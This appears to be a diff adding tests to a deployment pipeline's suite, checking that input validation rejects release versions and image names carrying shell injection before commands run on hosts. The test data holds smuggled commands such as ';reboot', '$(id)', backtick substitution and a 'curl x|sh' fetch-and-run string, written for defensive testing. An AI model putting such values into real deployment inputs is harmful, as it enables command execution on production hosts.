@@ -149,3 +149,34 @@ describe('bad execution input through the real ValidateInput', () => {
     expect(run.states).toEqual(['ValidateInput']);
   });
 });
+
+describe('bad execution input for an ssm-hosts target, whose commands run on the hosts as shell', () => {
+  const hostsConfig = () =>
+    testConfig({
+      target: {
+        kind: 'ssm-hosts',
+        tags: { app: 'shop-api' },
+        deploy: 'docker pull {{image}} && TAG={{version}} docker compose up -d',
+        rollback: 'TAG={{version}} docker compose up -d',
+        current: 'cat /srv/shop/VERSION',
+      },
+      migrations: null,
+    });
+
+  it.each([
+    ['a version carrying a command', release({ version: 'v1.5.0;reboot', image: `${REPOSITORY}:v1.5.0;reboot` }), 'version:', '"v1.5.0;reboot"'],
+    ['a version carrying a substitution', release({ version: 'v1.5.0$(id)' }), 'version:', '"v1.5.0$(id)"'],
+    ['an image carrying a substitution', release({ image: `${REPOSITORY}:v1.5.0\`id\`` }), 'image:', `"${REPOSITORY}:v1.5.0\`id\`"`],
+    ['an image carrying a quote', release({ image: `${REPOSITORY}:v1.5.0' && curl x|sh '` }), 'image:', 'must be an image reference'],
+    ['no image when target.deploy uses {{image}}', withoutField('image'), 'image: required: target.deploy uses {{image}}', ''],
+  ])('fails when the input is %s: InvalidInput naming the field, before any lock or command', async (_name, input, field, value) => {
+    const run = await runScripted({ config: hostsConfig(), input, tasks: { ValidateInput: realValidateInput } });
+
+    expect(ending(run)).toMatchObject({ status: 'FAILED', terminal: 'InvalidInput', error: 'InvalidInput' });
+    const cause = JSON.parse(run.cause ?? 'null') as { errorType: string; errorMessage: string };
+    expect(cause.errorType).toBe('InvalidInputError');
+    expect(cause.errorMessage).toContain(field);
+    expect(cause.errorMessage).toContain(value);
+    expect(run.states).toEqual(['ValidateInput']);
+  });
+});
